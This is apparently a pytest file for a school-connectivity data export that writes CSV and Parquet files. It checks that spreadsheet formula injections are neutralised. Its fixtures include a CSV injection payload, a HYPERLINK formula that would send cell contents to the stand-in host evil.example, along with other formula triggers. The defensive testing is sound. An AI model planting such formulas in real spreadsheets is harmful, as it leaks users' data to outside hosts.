"""``schoolnet export``: a day's national snapshot as CSV (for Excel) and Parquet."""

from __future__ import annotations

import csv
import json
from datetime import date
from pathlib import Path
from typing import Any

import pandas as pd
import pyarrow.parquet as pq
import pytest
from sqlalchemy import Engine, inspect
from sqlalchemy.engine import make_url

from schoolnet.cli.main import main
from schoolnet.core.registry import Esa, School
from schoolnet.report.export import (
    COLUMNS,
    NoSnapshot,
    export_snapshot,
    parquet_schema,
    read_snapshot,
    write_csv,
)
from schoolnet.warehouse import EsaDay, create_warehouse_engine, merge_day

D1, D2 = date(2018, 1, 3), date(2018, 1, 4)
HYPERLINK = '=HYPERLINK("http://evil.example/?q="&A1,"คลิก")'

ESAS = [
    Esa("105201", "สพป.ลำปาง เขต 1", "primary", "ลำปาง", "sheet-a", "a@example.org"),
    Esa("105290", "สพม.ลำปาง ลำพูน", "secondary", "ลำปาง", "sheet-b", "b@example.org"),
]
SCHOOLS = [
    School("1052010001", "บ้านแม่ทะ", "105201", "ลำปาง", 80),
    School("1052010002", HYPERLINK, "105201", "ลำปาง", 240),
    School("1052900001", "ลำปางพิทยาคม", "105290", "ลำพูน", 900),
    School("1052900002", "เมืองมายวิทยา", "105290", "ลำปาง", 300),
]


def connected(note: str | None) -> dict[str, Any]:
    return {
        "students": 80,
        "status": "connected",
        "isp": "TOT",
        "link_type": "fiber",
        "download_mbps": 30.0,
        "upload_mbps": None,
        "monthly_fee_thb": 1290.0,
        "funding_source": "per_student_subsidy",
        "support_requested_thb": 500.0,
        "support_reason": "เงินรายหัวไม่พอ",
        "service_start": date(2018, 1, 2),
        "note": note,
    }


def no_provider() -> dict[str, Any]:
    return {
        "students": 900,
        "status": "no_provider",
        "providers_contacted": ["TOT", "AIS"],
        "note": "@ผอ. โทร 054-123456",
    }


@pytest.fixture
def warehouse(warehouse_engine: Engine) -> Engine:
    merge_day(
        warehouse_engine,
        D1,
        ESAS,
        SCHOOLS,
        [
            EsaDay(
                "105201",
                "accepted",
                accepted={
                    "1052010001": connected("+66 54 123 456 ครูใหญ่"),
                    "1052010002": {**connected("-"), "status": "procuring", "students": 240},
                },
            ),
            EsaDay("105290", "accepted", accepted={"1052900001": no_provider()}),
        ],
    )
    merge_day(
        warehouse_engine,
        D2,
        ESAS,
        SCHOOLS,
        [
            EsaDay("105201", "failed", error_code="timeout", reason="ช้า"),
            EsaDay("105290", "accepted", accepted={"1052900001": no_provider()}),
        ],
    )
    return warehouse_engine


NAMES = [name for name, _ in COLUMNS]


def test_csv_opens_in_pandas_with_thai_text_and_one_row_per_school(
    warehouse: Engine, tmp_path: Path
) -> None:
    path = export_snapshot(warehouse, D2, "csv", tmp_path / "day.csv")
    assert path == tmp_path / "day.csv"
    assert path.read_bytes().startswith(b"\xef\xbb\xbf")  # BOM: Excel reads UTF-8
    frame = pd.read_csv(path, encoding="utf-8-sig", dtype=str, keep_default_na=False)
    assert list(frame.columns) == NAMES
    rows = {row["school_code"]: row for row in frame.to_dict("records")}
    assert sorted(rows) == sorted(s.school_code for s in SCHOOLS)
    first = rows["1052010001"]
    # Carried forward from 3 January: its ESA failed on the 4th.
    assert first["report_date"] == "2018-01-04"
    assert first["accepted_on"] == "2018-01-03"
    assert first["school_name"] == "บ้านแม่ทะ"
    assert first["esa_name"] == "สพป.ลำปาง เขต 1"
    assert first["level"] == "primary"
    assert first["service_start"] == "2018-01-02"
    assert first["upload_mbps"] == ""
    assert rows["1052900001"]["province"] == "ลำพูน"  # the school's province, not its ESA's
    assert rows["1052900001"]["providers_contacted"] == "TOT, AIS"
    never = rows["1052900002"]
    assert (never["status"], never["accepted_on"], never["students"]) == ("", "", "")


def test_csv_neutralizes_formulas_but_keeps_numbers(warehouse: Engine, tmp_path: Path) -> None:
    path = export_snapshot(warehouse, D1, "csv", tmp_path / "day.csv")
    with path.open(encoding="utf-8-sig", newline="") as handle:
        rows = {row["school_code"]: row for row in csv.DictReader(handle)}
    assert rows["1052010002"]["school_name"] == "'" + HYPERLINK
    assert rows["1052010002"]["note"] == "'-"
    assert rows["1052010001"]["note"] == "'+66 54 123 456 ครูใหญ่"
    assert rows["1052900001"]["note"] == "'@ผอ. โทร 054-123456"
    assert rows["1052900001"]["esa_name"] == "สพม.ลำปาง ลำพูน"  # not at the start: untouched
    # Numbers are written as numbers, unprefixed, so a spreadsheet still adds them up.
    first = rows["1052010001"]
    assert (first["students"], first["monthly_fee_thb"], first["download_mbps"]) == (
        "80",
        "1290.0",
        "30.0",
    )


def test_csv_neutralizes_what_the_shared_rule_catches(warehouse: Engine, tmp_path: Path) -> None:
    """Blanks before a trigger, full-width triggers and a leading tab are caught too (the rule
    of ``schoolnet.core.cellsafety``); a negative number stays a number."""
    frame = read_snapshot(warehouse, D1)
    typed = {
        "1052010001": ("  =1+1", "\tบ้านแม่ทะ", -5),
        "1052010002": ("＝HYPERLINK(A1)", "＠ผอ.", 240),
        "1052900001": ("\u3000-1+2", "บ้าน-ดอย", 900),
    }
    for code, (note, name, students) in typed.items():
        at = frame["school_code"] == code
        frame.loc[at, "note"] = note
        frame.loc[at, "school_name"] = name
        frame.loc[at, "students"] = students
    write_csv(frame, tmp_path / "day.csv")
    with (tmp_path / "day.csv").open(encoding="utf-8-sig", newline="") as handle:
        rows = {row["school_code"]: row for row in csv.DictReader(handle)}
    assert {code: (rows[code]["note"], rows[code]["school_name"]) for code in typed} == {
        "1052010001": ("'  =1+1", "'\tบ้านแม่ทะ"),
        "1052010002": ("'＝HYPERLINK(A1)", "'＠ผอ."),
        "1052900001": ("'\u3000-1+2", "บ้าน-ดอย"),
    }
    assert rows["1052010001"]["students"] == "-5"


def test_parquet_round_trips_with_typed_columns(warehouse: Engine, tmp_path: Path) -> None:
    path = export_snapshot(warehouse, D2, "parquet", tmp_path)
    assert path == tmp_path / "snapshot-2018-01-04.parquet"
    table = pq.read_table(path)
    assert table.schema.equals(parquet_schema())  # date32, string, int64, double, list<string>
    rows = {row["school_code"]: row for row in table.to_pylist()}
    assert rows["1052010001"] == {
        "report_date": D2,
        "school_code": "1052010001",
        "school_name": "บ้านแม่ทะ",
        "esa_code": "105201",
        "esa_name": "สพป.ลำปาง เขต 1",
        "province": "ลำปาง",
        "level": "primary",
        "accepted_on": D1,
        **connected("+66 54 123 456 ครูใหญ่"),  # kept as typed: Parquet is not a spreadsheet
        "providers_contacted": None,
    }
    assert rows["1052900001"]["providers_contacted"] == ["TOT", "AIS"]
    assert rows["1052900002"]["students"] is None
    assert rows["1052010002"]["school_name"] == HYPERLINK
    frame = pd.read_parquet(path)
    assert str(frame["monthly_fee_thb"].dtype) == "float64"
    assert len(frame) == 4


def test_a_date_without_snapshot_names_the_dates_held(warehouse: Engine, tmp_path: Path) -> None:
    with pytest.raises(NoSnapshot, match=r"2018-02-01 \(it holds 2018-01-03 to 2018-01-04\)"):
        export_snapshot(warehouse, date(2018, 2, 1), "csv", tmp_path / "out" / "x.csv")
    assert not (tmp_path / "out").exists()


def test_export_command(
    warehouse: Engine, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    url = warehouse.url.render_as_string(hide_password=False)
    out = tmp_path / "out"
    out.mkdir()
    assert main(["export", "2018-01-03", "--format", "csv", "--url", url, "--out", str(out)]) == 0
    written = out / "snapshot-2018-01-03.csv"
    assert capsys.readouterr().out.strip() == f"2018-01-03: 4 schools written to {written}"
    assert len(pd.read_csv(written, encoding="utf-8-sig")) == 4

    missing = ["export", "2017-12-31", "--format", "parquet", "--url", url, "--out", str(out)]
    assert main(missing) == 1
    error = capsys.readouterr().err
    assert error == (
        "schoolnet export: the warehouse has no snapshot for 2017-12-31 "
        "(it holds 2018-01-03 to 2018-01-04)\n"
    )
    assert sorted(p.name for p in out.iterdir()) == ["snapshot-2018-01-03.csv"]


def test_export_to_a_folder_named_with_a_slash_makes_it(
    warehouse: Engine, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    url = warehouse.url.render_as_string(hide_password=False)
    folder = tmp_path / "exports"
    missing = ["export", "2017-12-31", "--format", "csv", "--url", url, "--out", f"{folder}/"]
    assert main(missing) == 1
    assert not folder.exists()  # nothing is made for a date refused
    assert (
        main(["export", "2018-01-03", "--format", "parquet", "--url", url, "--out", f"{folder}/"])
        == 0
    )
    written = folder / "snapshot-2018-01-03.parquet"
    assert capsys.readouterr().out.strip() == f"2018-01-03: 4 schools written to {written}"
    assert len(pd.read_parquet(written)) == 4


def test_export_command_on_a_warehouse_without_tables(
    empty_url: str,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """A SQLite file that is not there, or a PostgreSQL database without schoolnet tables, is
    refused in one line, from --url or from the settings' connection, and nothing is made."""
    out = tmp_path / "out"
    out.mkdir()
    parsed = make_url(empty_url)
    sqlite = parsed.get_backend_name() == "sqlite"
    # The message names the SQLite file, or the PostgreSQL URL as the engine spells it.
    postgres = parsed.set(drivername="postgresql+psycopg").render_as_string()
    where = str(parsed.database) if sqlite else postgres
    monkeypatch.setenv(
        "AIRFLOW_CONN_SCHOOLNET_WAREHOUSE",
        json.dumps({"conn_type": "generic", "extra": {"sqlalchemy_url": empty_url}}),
    )
    for url in (["--url", empty_url], []):  # given, then the settings' connection
        code = main(["export", "2018-01-03", "--format", "csv", "--out", str(out), *url])
        assert code == 1
        (line,) = capsys.readouterr().err.splitlines()
        assert line.startswith(f"schoolnet export: no warehouse at {where}: ")
        assert "schoolnet db upgrade" in line
    assert list(out.iterdir()) == []
    if sqlite:
        assert not (tmp_path / "warehouse.db").exists()  # no empty database in its place
        (tmp_path / "warehouse.db").touch()  # an empty file: a database with no tables
        assert main(["export", "2018-01-03", "--format", "csv", "--url", empty_url]) == 1
        assert "holds no schoolnet tables" in capsys.readouterr().err
    engine = create_warehouse_engine(empty_url)
    try:
        assert inspect(engine).get_table_names() == []  # no table was created
    finally:
        engine.dispose()
